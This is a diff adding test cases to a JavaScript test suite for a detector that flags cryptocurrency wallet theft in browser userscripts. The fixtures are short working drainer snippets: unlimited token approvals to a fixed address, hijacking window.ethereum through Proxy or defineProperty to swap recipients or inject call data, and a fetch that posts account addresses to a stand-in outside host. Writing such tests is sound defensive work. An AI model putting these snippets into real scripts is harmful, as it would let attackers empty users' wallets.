@@ -38,6 +38,76 @@ describe("wallet-theft", () => {
 				`ethereum.request({method:"eth_accounts"}).then(a=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(a)}))`,
 			),
 		],
+		[
+			"all tokens handed over after a click, through a name in pieces",
+			["critical 8"],
+			userscript(
+				["match https://shop.example/*", "grant unsafeWindow"],
+				`const OP="2222222222222222222222222222222222222222";const pad=h=>h.padStart(64,"0");
+const b=document.createElement("button");document.body.append(b);
+b.onclick=()=>Reflect.get(unsafeWindow,"ethe"+"reum").request({method:"eth_sendTransaction",params:[{to:b.dataset.c,data:["0xa22cb465",pad(OP),pad("1")].join("")}]})`,
+			),
+		],
+		[
+			"an allowance by a library, with the wallet as signer",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`async function go(token){const p=new ethers.BrowserProvider(window.ethereum);const s=await p.getSigner();await new ethers.Contract(token,ABI,s).approve("0x52908400098527886E0F7030069857D2E4169EE7",2n**255n)}`,
+			),
+		],
+		[
+			"an allowance by another library",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`const w=new Web3(window.ethereum);const c=new w.eth.Contract(ABI,A);c.methods.setApprovalForAll("0x52908400098527886E0F7030069857D2E4169EE7",true).send({from:A})`,
+			),
+		],
+		[
+			"a payment on another chain",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`window.tronWeb.trx.sendTransaction("TExampLeAddressExampLeAddressXXXXX",5)`,
+			),
+		],
+		[
+			"a wallet that announces itself",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`addEventListener("eip6963:announceProvider",e=>e.detail.provider.request({method:"eth_sendTransaction",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7"}]}))`,
+			),
+		],
+		[
+			"a proxy that changes the receiver",
+			["medium 5", "critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`window.ethereum=new Proxy(window.ethereum,{get(t,k){return k==="request"?(c)=>{c.params[0].to="0x52908400098527886E0F7030069857D2E4169EE7";return t.request(c)}:t[k]}})`,
+			),
+		],
+		[
+			"an accessor that hands out a wrapper, with call data of its own",
+			["critical 6", "medium 7"],
+			userscript(
+				["match https://shop.example/*"],
+				`const S="095ea7b3",MAX="f".repeat(64),me="91ce27f0a4d8b35e6c01a7f92b4de83c50a61f7e".padStart(64,"0");
+let now;const wrap=(w)=>({...w,request:(c)=>w.request({...c,params:c.params.map(p=>({...p,data:"0x"+S+me+MAX}))})});
+Object.defineProperty(window,"ethereum",{get:()=>now,set(v){now=wrap(v)}})`,
+			),
+		],
+		[
+			"a class in the place of the wallet",
+			["critical 6", "medium 7"],
+			userscript(
+				["match https://shop.example/*"],
+				`class Pay{constructor(i){this.i=i}
+request(c){return this.i.request({...c,params:[{...c.params[0],to:"0x52908400098527886E0F7030069857D2E4169EE7"}]})}}
+Object.defineProperty(window,"ethereum",{value:new Pay(window.ethereum)})`,
+			),
+		],
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(walletTheft, code)).toEqual(expected);
 	});
@@ -58,7 +128,28 @@ describe("wallet-theft", () => {
 b.onclick=()=>ethereum.request({method:"eth_requestAccounts"})`,
 			),
 		],
+		[
+			"a token's balance",
+			userscript(
+				["match https://shop.example/*"],
+				`ethereum.request({method:"eth_call",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7",data:"0x70a08231"+"0".repeat(64)}]}).then(b=>{document.title=b})`,
+			),
+		],
+		[
+			"a token that is shown in the wallet",
+			userscript(
+				["match https://shop.example/*"],
+				`const b=document.createElement("button");document.body.append(b);
+b.onclick=()=>ethereum.request({method:"wallet_watchAsset",params:{type:"ERC20",options:{address:"0x52908400098527886E0F7030069857D2E4169EE7"}}})`,
+			),
+		],
 	])("leaves alone %s", (_title, code) => {
 		expect(findIn(walletTheft, code)).toEqual([]);
+	});
+
+	test("tells of a wrapper that only looks, without alarm", () => {
+		const code = `const real=ethereum.request;
+ethereum.request=function(c){if(c.params[0].data.startsWith("0x095ea7b3")&&!confirm("Unlimited?"))return Promise.reject();return real.call(this,c)}`;
+		expect(findIn(walletTheft, userscript(["match https://shop.example/*"], code))).toEqual(["medium 6"]);
 	});
 });
